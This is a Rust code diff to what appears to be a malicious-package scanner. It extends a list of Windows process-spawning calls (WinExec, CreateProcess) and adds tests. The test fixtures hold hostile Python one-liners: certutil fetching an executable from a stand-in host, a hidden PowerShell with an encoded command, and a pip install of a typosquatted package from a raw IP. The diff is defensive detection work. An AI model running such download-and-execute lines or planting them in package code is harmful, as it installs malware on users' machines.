@@ -45,6 +45,11 @@ pub fn is_spawn(qualname: &str) -> bool {
             | "ctypes.windll.shell32.ShellExecuteW"
             | "ctypes.windll.shell32.ShellExecuteA"
             | "win32api.ShellExecute"
+            | "ctypes.windll.kernel32.WinExec"
+            | "win32api.WinExec"
+            | "win32process.CreateProcess"
+            | "ctypes.windll.kernel32.CreateProcessW"
+            | "ctypes.windll.kernel32.CreateProcessA"
     ) || is_pip_main(q)
         || is_libc_command(q)
         || is_container_run(q)
@@ -110,6 +115,10 @@ fn argv_position(qualname: &str) -> Option<Argv> {
         | "ctypes.windll.shell32.ShellExecuteA"
         | "win32api.ShellExecute" => Some(Argv::ProgramAndParameters(2)),
         "Shell.Application.ShellExecute" => Some(Argv::ProgramAndParameters(0)),
+        // `CreateProcess(application, command_line, …)`: the application is usually `None`.
+        "win32process.CreateProcess"
+        | "ctypes.windll.kernel32.CreateProcessW"
+        | "ctypes.windll.kernel32.CreateProcessA" => Some(Argv::ProgramAndParameters(0)),
         _ if is_container_run(qualname) => Some(Argv::List(1)),
         _ => None,
     }
@@ -1468,6 +1477,10 @@ mod tests {
         assert_eq!(max_severity("p/pkg/__init__.py", shortcut, "WH120"), 0.0);
         let elevate = "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'runas', 'cmd.exe', '/c certutil -urlcache -f https://x.example/a.exe a.exe', None, 0)\n";
         assert!(max_severity("p/pkg/__init__.py", elevate, "WH120") >= 0.8);
+        let winexec = "import ctypes\nctypes.windll.kernel32.WinExec(b'cmd /c certutil -urlcache -f http://x.example/a.exe a.exe', 0)\n";
+        assert!(max_severity("p/pkg/__init__.py", winexec, "WH120") >= 0.8);
+        let create = "import win32process\nwin32process.CreateProcess(None, 'powershell -w hidden -enc SQBFAFgA', None, None, False, 0, None, None, win32process.STARTUPINFO())\n";
+        assert!(max_severity("p/pkg/__init__.py", create, "WH120") >= 0.8);
         let pip = "from pip._internal import main\nmain(['install', '--index-url', 'http://203.0.113.9:8080/simple', 'reqeusts'])\n";
         assert!(max_severity("p/setup.py", pip, "WH120") >= 0.7);
     }
